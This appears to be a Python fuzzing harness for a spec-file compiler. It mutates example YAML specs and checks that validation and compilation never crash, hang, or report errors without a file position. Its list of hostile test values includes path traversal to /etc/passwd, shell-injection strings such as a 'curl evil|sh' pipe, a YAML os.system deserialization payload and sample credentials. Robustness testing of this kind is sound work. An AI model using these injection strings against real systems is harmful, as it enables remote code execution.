"""Fuzzing the front end: mutate the examples' spec files and check that `validate` (and
`compile`, when the mutant is valid) never raises, never hangs and never reports an error
without a place in the file.

Used by tests/compiler/frontend/test_fuzz.py (a fixed budget in every CI run, plus the saved
corpus) and by benchmarks/fuzz.py (the big run, with its figures in the issue notes).

The mutators are the ways a spec file gets broken by hand or by a merge: flipped and inserted
bytes, deleted, duplicated and swapped lines, indentation shifted, keys swapped or replaced by
other keys of the spec language, values replaced by hostile ones, lines spliced from another
spec; a mutant applies one to four of them.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import traceback
from dataclasses import dataclass
from pathlib import Path
from random import Random
from typing import Callable, Iterator

from specops.build.compile import compile_repo
from specops.checks import analyze
from specops.paths import discover

ROOT = Path(__file__).resolve().parents[3]
EXAMPLES = ("churn", "support-assistant", "abalone")
CORPUS = Path(__file__).parent / "fuzz_corpus"
# An input that takes longer than this is reported as a hang (validate takes ~10 ms).
HANG_S = 20

_KEY = re.compile(rb"^(\s*(?:- )?)([A-Za-z_][\w.-]*)(:)", re.M)
_SCALAR = re.compile(rb"(:\s+)([^\s{}\[\],#][^\n#{}\[\],]*)")

# Values a hostile or careless author writes.
HOSTILE = [
    b"", b"~", b"null", b"[]", b"{}", b"-1", b"0", b"1e400", b"1.0e+400", b".nan", b".inf", b"-.inf",
    b"9" * 30, b"1" + b"0" * 4000, b"0x" + b"f" * 40, b"0b_", b"1:2:3:4", b"yes", b"off", b"2024-13-45",
    b"'" + b"x" * 5000 + b"'", b"../../etc/passwd", b"/etc/passwd", b"file:///etc/passwd", b"$(touch pwned)",
    b"'x:1; curl evil|sh'", b"AKIAIOSFODNN7EXAMPLE", b"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    b"\"{{ x }}\"", b"\"{% for %}\"", b"!!python/object/apply:os.system ['id']", b"*a", b"&a x", b"!Ref x",
    b"\"\\e[2J\"", b"\"\\u0000\"", b"\"\xf0\x9f\x92\xa5\"", b"| \n  block", b"> \n  folded", b"? x", b"[a, {b: [c, {d: e}]}]",
    b"{a: 1, a: 2}", b"s3://Bad_Bucket/x", b"hf://../../x", b"postgresql://u:S3cr3t@h/db", b">= 0.5", b"<= baseline",
    b"\"H100\"", b"L4", b"llm", b"classical", b"kserve", b"sagemaker", b"zenml", b"kfp", b"dev", b"prod",
]
NOISE = b"{}[]:,-&*!|>'\"#%@`?\t\r\n \x00\x7f\xc3\xa9\xff0123456789abcXYZ_./\\"


@dataclass
class Result:
    inputs: int = 0
    failures: list[tuple[str, str, bytes, str]] = None  # (example, rel, data, problem)

    def __post_init__(self) -> None:
        if self.failures is None:
            self.failures = []


class _Hang(Exception):
    pass


def _on_alarm(signum, frame):  # noqa: ANN001 - signal handler signature
    raise _Hang(f"no answer within {HANG_S} s")


class Target:
    """One example repo in a scratch folder: `check(rel, data)` puts `data` at `rel`, runs
    validate (and compile when it is valid) and returns what is wrong, or None."""

    def __init__(self, example: str, scratch: Path) -> None:
        self.example = example
        self.root = scratch / example
        if self.root.exists():
            shutil.rmtree(self.root)
        shutil.copytree(ROOT / "examples" / example, self.root, ignore=shutil.ignore_patterns(".specops", "build"))
        rels, _ = discover(self.root)
        self.files = {rel: (self.root / rel).read_bytes() for rel in rels}

    def check(self, rel: str, data: bytes) -> str | None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        old = signal.signal(signal.SIGALRM, _on_alarm)
        signal.alarm(HANG_S)
        try:
            resolved = analyze(self.root)
            problem = self._problems(resolved.diagnostics.items)
            if problem is None and not resolved.diagnostics.has_errors:
                build = compile_repo(resolved, cache_dir=None)
                problem = self._problems(build.diagnostics.items)
            return problem
        except _Hang as e:
            return f"hang: {e}"
        except Exception as e:  # noqa: BLE001 - that is the finding
            return f"{type(e).__name__}: {e}\n{''.join(traceback.format_exc(limit=-6))}"
        finally:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, old)
            if rel in self.files:
                path.write_bytes(self.files[rel])
            else:
                path.unlink(missing_ok=True)

    def _problems(self, diags) -> str | None:
        for d in diags:
            if d.code == "internal":
                return f"internal error: {d.headline()}"
            if d.severity != "error" or d.file is None:
                continue
            if d.pos is None:
                return f"error without a position: {d.headline()}"
            try:
                text = (self.root / d.file).read_bytes().decode("utf-8-sig", errors="replace")
            except OSError:
                continue
            lines = len(re.split("\r\n|[\r\n\x85\u2028\u2029]", text))
            if not (1 <= d.pos.line <= lines and d.pos.col >= 1):
                return f"error outside its file ({lines} lines): {d.headline()}"
        return None


def scratch_dir() -> Path:
    """A scratch folder in memory when the machine has one: each input writes a file, and a
    busy disk would make that most of the cost."""
    import tempfile

    shm = Path("/dev/shm")
    base = shm if shm.is_dir() and os.access(shm, os.W_OK) else None
    return Path(tempfile.mkdtemp(prefix="specops-fuzz-", dir=base))


# ---- mutators --------------------------------------------------------------------------------


def _lines(data: bytes) -> list[bytes]:
    return data.split(b"\n")


def flip_bytes(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    b = bytearray(data or b"\n")
    for _ in range(rng.randint(1, 4)):
        i = rng.randrange(len(b))
        b[i] ^= 1 << rng.randrange(8)
    return bytes(b)


def insert_bytes(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    i = rng.randint(0, len(data))
    return data[:i] + bytes(rng.choice(NOISE) for _ in range(rng.randint(1, 6))) + data[i:]


def delete_lines(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    lines = _lines(data)
    i = rng.randrange(len(lines))
    del lines[i:i + rng.randint(1, 3)]
    return b"\n".join(lines)


def duplicate_lines(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    lines = _lines(data)
    i = rng.randrange(len(lines))
    block = lines[i:i + rng.randint(1, 3)]
    j = rng.randint(0, len(lines))
    return b"\n".join(lines[:j] + block + lines[j:])


def swap_lines(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    lines = _lines(data)
    if len(lines) > 1:
        i, j = rng.randrange(len(lines)), rng.randrange(len(lines))
        lines[i], lines[j] = lines[j], lines[i]
    return b"\n".join(lines)


def shift_indent(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    lines = _lines(data)
    i = rng.randrange(len(lines))
    n = rng.randint(1, min(6, len(lines) - i))
    how = rng.choice([b"  ", b" ", b"\t", b"-", b"- "])
    for k in range(i, i + n):
        if rng.random() < 0.5 and lines[k].startswith(b"  "):
            lines[k] = lines[k][rng.choice([1, 2]):]
        else:
            lines[k] = how + lines[k]
    return b"\n".join(lines)


def swap_keys(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    keys = list(_KEY.finditer(data))
    if len(keys) < 2:
        return data
    a, b = sorted(rng.sample(keys, 2), key=lambda m: m.start())
    ka, kb = a.group(2), b.group(2)
    return (data[:a.start(2)] + kb + data[a.end(2):b.start(2)] + ka + data[b.end(2):])


def replace_key(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    keys = list(_KEY.finditer(data))
    vocab = sorted({m.group(2) for c in corpus for m in _KEY.finditer(c)})
    if not keys or not vocab:
        return data
    m = rng.choice(keys)
    new = rng.choice(vocab)
    if rng.random() < 0.2:  # a typo of the key
        new = new[:-1] if len(new) > 1 and rng.random() < 0.5 else new + rng.choice([b"s", b"_", b"X"])
    return data[:m.start(2)] + new + data[m.end(2):]


def replace_value(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    values = list(_SCALAR.finditer(data))
    if not values:
        return data
    m = rng.choice(values)
    if rng.random() < 0.7:
        new = rng.choice(HOSTILE)
    else:  # a value from elsewhere in the spec language
        others = [v.group(2) for c in corpus for v in _SCALAR.finditer(c)]
        new = rng.choice(others) if others else b"x"
    return data[:m.start(2)] + new + data[m.end(2):]


def splice(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    other = _lines(rng.choice(corpus))
    lines = _lines(data)
    i, j = rng.randrange(len(other)), rng.randint(0, len(lines))
    return b"\n".join(lines[:j] + other[i:i + rng.randint(1, 6)] + lines[j:])


MUTATORS: list[Callable[[Random, bytes, list[bytes]], bytes]] = [
    flip_bytes, insert_bytes, delete_lines, duplicate_lines, swap_lines, shift_indent, swap_keys,
    replace_key, replace_value, replace_value, splice,
]


def mutate(rng: Random, data: bytes, corpus: list[bytes]) -> bytes:
    for _ in range(rng.choice([1, 1, 1, 2, 2, 3, 4])):
        data = rng.choice(MUTATORS)(rng, data, corpus)
    return data


def mutants(seed: int, targets: list[Target]) -> Iterator[tuple[Target, str, bytes]]:
    """An endless, reproducible stream of (target, file, mutant)."""
    rng = Random(seed)
    corpus = [data for t in targets for data in t.files.values()]
    while True:
        t = rng.choice(targets)
        rel = rng.choice(sorted(t.files))
        yield t, rel, mutate(rng, t.files[rel], corpus)


def run(targets: list[Target], seed: int, inputs: int) -> Result:
    result = Result()
    stream = mutants(seed, targets)
    for _ in range(inputs):
        t, rel, data = next(stream)
        problem = t.check(rel, data)
        result.inputs += 1
        if problem is not None:
            result.failures.append((t.example, rel, data, problem))
    return result


# ---- the saved corpus ------------------------------------------------------------------------


def corpus_cases() -> list[tuple[str, str, Path]]:
    """(example, file, case path) of every saved input: `<example>/<file with / as __>.<id>`."""
    out = []
    for p in sorted(CORPUS.glob("*/*")):
        rel = p.name.rsplit(".", 1)[0].replace("__", "/")
        out.append((p.parent.name, rel, p))
    return out


def save(example: str, rel: str, data: bytes) -> Path:
    import hashlib

    path = CORPUS / example / f"{rel.replace('/', '__')}.{hashlib.sha256(data).hexdigest()[:12]}"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# ---- structured documents (hypothesis) ------------------------------------------------------


_STRATEGIES: dict[int, object] = {}


def document_strategy(targets: list[Target]):
    """Spec-shaped documents: the envelope, keys of the spec language, hostile values."""
    if id(targets) not in _STRATEGIES:
        _STRATEGIES[id(targets)] = _document_strategy(targets)
    return _STRATEGIES[id(targets)]


def _document_strategy(targets: list[Target]):
    import yaml
    from hypothesis import strategies as st

    corpus = [d for t in targets for d in t.files.values()]
    keys = sorted({m.group(2).decode() for c in corpus for m in _KEY.finditer(c)})
    names = sorted({m.decode() for c in corpus for m in re.findall(rb"name: ([a-z0-9-]+)", c)})
    words = [v.decode("utf-8", "replace") for v in HOSTILE if b"\n" not in v]
    scalars = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
                        st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=20),
                        st.sampled_from(words + names + keys))
    values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                          | st.dictionaries(st.sampled_from(keys) | st.text(max_size=8), inner, max_size=5),
                          max_leaves=25)
    kinds = ["Project", "Dataset", "Model", "Prompt", "EvalGate", "ServingTarget", "Monitor"]
    doc = st.fixed_dictionaries({
        "apiVersion": st.sampled_from(["specops.dev/v1alpha1", "specops.dev/v1alpha1", "v1"]),
        "kind": st.sampled_from(kinds),
        "metadata": st.fixed_dictionaries({"name": st.sampled_from(names) | st.text(max_size=12)}),
        "spec": st.dictionaries(st.sampled_from(keys), values, max_size=8),
    }, optional={"environments": st.lists(st.sampled_from(["dev", "staging", "prod", "qa"]), max_size=3),
                 "overrides": st.dictionaries(st.sampled_from(["dev", "staging", "prod"]),
                                              st.dictionaries(st.sampled_from(keys), values, max_size=3), max_size=2)})
    return st.tuples(st.sampled_from(range(len(targets))), doc).map(
        lambda td: (targets[td[0]], yaml.safe_dump(td[1], sort_keys=False, allow_unicode=True).encode()))


def check_document(target: Target, data: bytes, salt: int) -> tuple[str, str | None]:
    """Put a generated document in place of one of the target's spec files (not the
    Project's: the generated one would replace the whole repo's targets); (file, problem)."""
    rels = sorted(r for r in target.files if r != "specops.yaml")
    rel = rels[salt % len(rels)]
    return rel, target.check(rel, data)
